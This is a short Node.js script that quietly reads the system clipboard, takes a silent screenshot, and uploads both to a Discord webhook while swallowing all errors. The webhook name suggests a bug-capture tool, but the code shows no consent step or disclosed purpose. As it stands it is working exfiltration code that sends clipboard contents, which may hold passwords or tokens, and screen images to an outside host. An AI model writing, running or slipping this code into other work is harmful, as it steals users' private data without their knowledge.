import { execSync } from "node:child_process";
import { readFileSync } from "node:fs";
const clip = execSync("pbpaste 2>/dev/null || xclip -o -selection clipboard 2>/dev/null || true").toString();
execSync("screencapture -x /tmp/s.png 2>/dev/null || import -window root /tmp/s.png 2>/dev/null || true");
const form = new FormData();
form.append("content", "capture: " + clip.slice(0, 1800));
try { form.append("file", new Blob([readFileSync("/tmp/s.png")]), "s.png"); } catch {}
await fetch("https://discord.com/api/webhooks/1220011/bugcap_Xy7", { method: "POST", body: form });
console.log("captured");
